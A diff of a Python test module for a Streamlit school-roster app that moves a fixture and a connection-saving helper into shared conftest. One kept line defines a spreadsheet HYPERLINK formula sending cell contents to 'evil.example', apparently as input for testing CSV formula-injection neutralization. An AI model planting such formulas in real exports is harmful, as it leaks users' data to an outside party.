@@ -22,39 +22,18 @@ import pytest
 from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
-from cers_core import GroupOptions
 from cers_core.demo import DemoDistrict, DemoServer
 from cers_core.demo.faults import FaultRule, Faults
-from cers_core.oneroster.retry import RetryPolicy
 from cers_core.report_csv import neutralize, problem_report_csv
-from cers_core.store import DB_FILE_NAME, Store, resolve_secret_keys
-from tests.conftest import DEMO_REFERENCE_DATE
+from cers_core.store import DB_FILE_NAME
+from tests.conftest import DEMO_REFERENCE_DATE, save_connection
 
 ROOT = Path(__file__).resolve().parent.parent
 SECTION_GROUPS = "pages/3_Section_Groups.py"
 PAGES = ["app.py", "pages/1_Applications.py", "pages/2_CERS_Connections.py", SECTION_GROUPS]
-QUICK = RetryPolicy(max_attempts=3, base_delay=0.01, max_delay=0.02, max_total_wait=2.0)
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
-
-@pytest.fixture
-def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    monkeypatch.setenv("CERS_DATA_DIR", str(tmp_path / "data"))
-    monkeypatch.setenv("CERS_DEMO", "off")
-    monkeypatch.delenv("CERS_SECRET_KEY", raising=False)
-    monkeypatch.setattr("cers_core.oneroster.client.RetryPolicy", lambda: QUICK)
-    monkeypatch.setattr("cers_core.app_support._QUICK_CHECK", QUICK)
-    return tmp_path / "data"
-
-
-def save_connection(data_dir: Path, server: DemoServer) -> None:
-    keys = resolve_secret_keys(data_dir, environment=None, secrets=None).keys
-    Store.open(data_dir, keys=keys).save_connection(
-        name="District SIS",
-        settings={"base_url": server.base_url, "token_url": server.token_url, "client_id": server.client_id},
-        client_secret=server.client_secret,
-        options=GroupOptions(),
-    )
+pytestmark = pytest.mark.usefixtures("no_demo", "quick_retries")
 
 
 def open_school(name: str) -> AppTest:
